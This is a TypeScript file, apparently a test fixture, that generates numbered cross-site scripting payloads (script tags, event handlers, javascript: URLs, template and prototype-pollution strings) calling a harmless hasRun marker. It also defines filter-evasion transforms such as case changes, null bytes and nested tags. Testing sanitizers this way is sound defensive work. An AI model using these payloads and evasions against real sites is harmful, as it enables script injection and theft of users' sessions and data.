/** What would run `hasRun(N)` wherever text is taken for a page, an address or code; `N` is the payload's number. */
const payloads: readonly string[] = [
  '<script>hasRun(N)</script>',
  '<img src=x onerror=hasRun(N)>',
  '<img src=x onerror="hasRun(N)">',
  '"><img src=x onerror=hasRun(N)>',
  "'><img src=x onerror='hasRun(N)'>",
  '<svg onload=hasRun(N)>',
  '<svg/onload=hasRun(N)//',
  '<svg><script>hasRun(N)</script></svg>',
  '<svg><animate onbegin=hasRun(N) attributeName=x dur=1s>',
  '<body onload=hasRun(N)>',
  '<iframe srcdoc="<script>parent.hasRun(N)</script>"></iframe>',
  '<iframe src="javascript:parent.hasRun(N)"></iframe>',
  '<details open ontoggle=hasRun(N)>x</details>',
  '<video><source onerror=hasRun(N)></video>',
  '<audio src=x onerror=hasRun(N)></audio>',
  '<input autofocus onfocus=hasRun(N)>',
  '<select autofocus onfocus=hasRun(N)></select>',
  '<marquee onstart=hasRun(N)>x</marquee>',
  '<object data="javascript:hasRun(N)"></object>',
  '<embed src="javascript:hasRun(N)">',
  '<a href="javascript:hasRun(N)">x</a>',
  '<math><mtext><script>hasRun(N)</script></mtext></math>',
  '<template><script>hasRun(N)</script></template>',
  '<style>@import "javascript:hasRun(N)";</style>',
  '<div style="background:url(javascript:hasRun(N))">x</div>',
  '<link rel=stylesheet href="javascript:hasRun(N)">',
  '<base href="javascript:hasRun(N)//">',
  '<meta http-equiv=refresh content="0;javascript:hasRun(N)">',
  '<form action="javascript:hasRun(N)"><button autofocus>x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=hasRun(N)>">',
  '<!--><img src=x onerror=hasRun(N)>-->',
  '<![CDATA[<img src=x onerror=hasRun(N)>]]>',
  '</textarea><script>hasRun(N)</script>',
  '</title><script>hasRun(N)</script>',
  '</script><script>hasRun(N)</script>',
  'javascript:hasRun(N)',
  'data:text/html,<script>parent.hasRun(N)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be one where nobody looks
  '${hasRun(N)}',
  '{{constructor.constructor("hasRun(N)")()}}',
  '"-hasRun(N)-"',
  "'-hasRun(N)-'",
  '`-hasRun(N)-`',
  '";hasRun(N);//',
  '\\u003cimg src=x onerror=hasRun(N)\\u003e',
  '&lt;img src=x onerror=hasRun(N)&gt;',
  '%3Cimg%20src=x%20onerror=hasRun(N)%3E',
  '{"__proto__":{"hasRun":N},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hasRun(N)>"}}',
];

/** Ways to write the same differently, as they are used to get past whatever looks for the first. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('javascript:', 'java\tscript:'),
  (text) => text.replaceAll('on', 'oN'),
  (text) => `\u202e${text}`,
  (text) => `${text}\u2028${text}`,
  (text) => `<<${text}>>`,
  (text) => text.replaceAll('script', 'scr<script>ipt'),
  (text) => `]]>${text}`,
];

/** So many payloads, each another text with a number of its own. */
export function scriptPayloads(count: number): string[] {
  return Array.from({ length: count }, (_, number) => {
    const payload = (payloads[number % payloads.length] ?? '').replaceAll('N', String(number));
    const disguise = disguises[Math.floor(number / payloads.length) % disguises.length];
    return disguise?.(payload) ?? payload;
  });
}
